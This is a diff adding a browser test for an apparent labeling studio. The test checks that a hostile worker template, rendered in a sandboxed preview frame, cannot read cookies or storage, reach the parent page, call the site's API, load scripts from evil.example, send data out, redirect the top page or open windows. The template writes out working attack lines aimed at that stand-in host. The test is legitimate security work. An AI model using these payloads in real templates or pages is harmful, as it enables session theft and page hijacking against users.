@@ -1,0 +1,76 @@
+"""A hostile worker template in a real browser: it runs, and gets nowhere."""
+
+from typing import Any
+
+HOSTILE = """
+<crowd-form></crowd-form>
+<script>
+const refuse = () => { throw new Error('refused') };
+const loaded = (tag, src) => new Promise((done, failed) => {
+  const element = document.createElement(tag);
+  Object.assign(element, {src, onload: done, onerror: failed});
+  document.body.append(element);
+});
+const origin = new URL(document.URL).origin;
+const tries = {
+  'read cookies': () => document.cookie,
+  'read the storage': () => localStorage.length,
+  'reach the page around it': () => parent.document.title,
+  'ask our API': () => fetch(origin + '/api/session', {credentials: 'include'}),
+  'ask the edge': () => fetch(origin + '/aws', {method: 'POST'}),
+  'load our pages as a script': () => loaded('script', origin + '/api/schema/'),
+  'load a script from elsewhere': () => loaded('script', 'https://evil.example/x.js'),
+  'send what it knows elsewhere': () => loaded('img', 'https://evil.example/?' + document.title),
+  'ask elsewhere': () => fetch('https://evil.example/'),
+  'take the page around it away': () => { top.location.href = 'https://evil.example/top' },
+  'open a window': () => window.open('https://evil.example/window') || refuse(),
+  'frame our pages': () => new Promise((done, failed) => {
+    const frame = document.createElement('iframe');
+    frame.src = origin + '/';
+    frame.onload = () => (frame.contentDocument ? done() : failed());
+    document.addEventListener('securitypolicyviolation', failed);
+    document.body.append(frame);
+  }),
+};
+(async () => {
+  const worked = [];
+  for (const [name, act] of Object.entries(tries)) {
+    try { await act(); worked.push(name); } catch { /* as it should be */ }
+  }
+  parent.postMessage({type: 'tried', count: Object.keys(tries).length, worked}, '*');
+  location.href = 'https://evil.example/self';
+})();
+</script>
+"""
+SHOWN = """async ([template]) => {
+  const token = document.cookie.match(/atelier_csrf=([^;]+)/)[1];
+  const made = await fetch('/api/labeling/previews', {
+    method: 'POST',
+    headers: {'Content-Type': 'application/json', 'X-CSRFToken': token},
+    body: JSON.stringify({template, line: {source: 'x'}}),
+  }).then((answer) => answer.json());
+  const frame = document.createElement('iframe');
+  frame.sandbox = 'allow-scripts allow-forms allow-modals';
+  frame.src = made.page_url;
+  const said = new Promise((done) => addEventListener('message', (event) => {
+    if (event.source === frame.contentWindow && event.data.type === 'tried') done(event.data);
+  }));
+  document.body.append(frame);
+  return said;
+}"""
+
+
+def test_a_hostile_template_gets_nowhere(page: Any, studio: Any, context: Any) -> None:
+    asked: list[str] = []
+    context.on("request", lambda request: asked.append(request.url) if "evil.example" in request.url else None)
+    context.route("https://evil.example/**", lambda route: route.fulfill(status=200, body="x"))
+    page.goto("/")
+    page.get_by_text("Home").first.wait_for()
+
+    said = page.evaluate(SHOWN, [HOSTILE])
+
+    assert (said["count"], said["worked"]) == (12, [])
+    page.wait_for_function("document.querySelector('iframe').contentWindow !== null")
+    assert page.url.startswith(studio.url)
+    assert asked == []
+    assert len(context.pages) == 1
